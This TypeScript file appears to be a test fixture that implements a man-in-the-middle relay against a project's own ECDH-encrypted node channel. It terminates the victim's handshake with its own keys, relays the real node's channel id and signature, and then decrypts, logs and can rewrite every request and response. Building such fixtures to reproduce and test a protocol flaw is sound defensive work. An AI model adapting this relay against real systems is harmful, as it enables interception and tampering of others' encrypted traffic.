import { randomBytes } from 'node:crypto';
import { createServer, IncomingMessage, Server } from 'node:http';
import { AddressInfo } from 'node:net';
import {
  decryptJson,
  deriveChannelKey,
  ecdhSecret,
  encryptJson,
  generateEphemeralKey,
  importEphemeralPublicKey,
  isEnvelope,
} from '../../../src/node-trust/crypto/channel-crypto';

/**
 * The relay attacker of issue 12: an HTTP server at a URL the victim client was pointed to. It
 * ends the victim's channel itself (its own ECDH key and nonce), opens its own channel to the real
 * node, hands the victim the real node's channel id and channel-open signature, and relays every
 * later call decrypted and re-encrypted, so it reads (and may rewrite) everything in between.
 */
export class MitmRelay {
  private server?: Server;
  /** Paths the victim sent, in order. */
  readonly received: string[] = [];
  /** Decrypted answers of the real node, by path. */
  readonly answers: { path: string; status: number; body: unknown }[] = [];
  private channel?: { id: string; victimKey: Buffer; targetKey: Buffer };

  constructor(
    private readonly target: string,
    /** Rewrites a decrypted victim request before it goes to the real node. */
    private readonly rewrite: (path: string, body: Record<string, unknown>) => Record<string, unknown> = (_p, b) => b,
  ) {}

  get url(): string {
    return `http://127.0.0.1:${(this.server!.address() as AddressInfo).port}`;
  }

  async start(): Promise<void> {
    this.server = createServer((req, res) => {
      void this.handle(req).then(
        ({ status, headers, body }) => {
          res.writeHead(status, { 'Content-Type': 'application/json', ...headers });
          res.end(JSON.stringify(body));
        },
        () => {
          res.writeHead(502);
          res.end();
        },
      );
    });
    await new Promise<void>((resolve) => this.server!.listen(0, '127.0.0.1', resolve));
  }

  close(): Promise<void> {
    return new Promise((resolve) => this.server!.close(() => resolve()));
  }

  private async handle(req: IncomingMessage): Promise<{ status: number; headers: Record<string, string>; body: unknown }> {
    const chunks: Buffer[] = [];
    for await (const chunk of req) chunks.push(chunk as Buffer);
    const text = Buffer.concat(chunks).toString('utf8');
    const body = text ? (JSON.parse(text) as Record<string, unknown>) : undefined;
    const path = req.url ?? '/';
    this.received.push(path);
    if (path === '/api/channel/open') return this.openBoth(body!);
    if (!this.channel) return { status: 400, headers: {}, body: {} };
    const plain = body && isEnvelope(body) ? decryptJson<Record<string, unknown>>(this.channel.victimKey, body) : {};
    const headers: Record<string, string> = { 'Content-Type': 'application/json', 'X-Channel-Id': this.channel.id };
    const session = req.headers['x-session-id'];
    if (typeof session === 'string') headers['X-Session-Id'] = session;
    const forwarded = await fetch(`${this.target}${path}`, {
      method: req.method,
      headers,
      body: req.method === 'GET' ? undefined : JSON.stringify(encryptJson(this.channel.targetKey, this.rewrite(path, plain))),
    });
    const answerText = await forwarded.text();
    const answer = answerText ? (JSON.parse(answerText) as unknown) : undefined;
    const clear = isEnvelope(answer) ? decryptJson(this.channel.targetKey, answer) : answer;
    this.answers.push({ path, status: forwarded.status, body: clear });
    return { status: forwarded.status, headers: { 'X-Channel-Id': this.channel.id }, body: isEnvelope(answer) ? encryptJson(this.channel.victimKey, clear) : answer };
  }

  /** Two channels: attacker → real node, and victim → attacker under the real node's channel id. */
  private async openBoth(victimOpen: Record<string, unknown>) {
    const own = generateEphemeralKey('secp384r1');
    const nonce = randomBytes(32);
    const res = await fetch(`${this.target}/api/channel/open`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ ...victimOpen, ephemeralPublicKey: own.publicKeySpki, nonce: nonce.toString('base64') }),
    });
    const real = (await res.json()) as Record<string, string>;
    const id = res.headers.get('x-channel-id')!;
    const targetKey = deriveChannelKey(ecdhSecret(own.privateKey, importEphemeralPublicKey(real.ephemeralPublicKey, 'secp384r1')), nonce, Buffer.from(real.nonce, 'base64'));
    const towardVictim = generateEphemeralKey('secp384r1');
    const relayNonce = randomBytes(16);
    const victimKey = deriveChannelKey(
      ecdhSecret(towardVictim.privateKey, importEphemeralPublicKey(String(victimOpen.ephemeralPublicKey), 'secp384r1')),
      Buffer.from(String(victimOpen.nonce), 'base64'),
      relayNonce,
    );
    this.channel = { id, victimKey, targetKey };
    // The real node's signature, relayed: it covers the attacker's channel, not the victim's.
    return {
      status: 200,
      headers: { 'X-Channel-Id': id },
      body: { ...real, ephemeralPublicKey: towardVictim.publicKeySpki, nonce: relayNonce.toString('base64') },
    };
  }
}
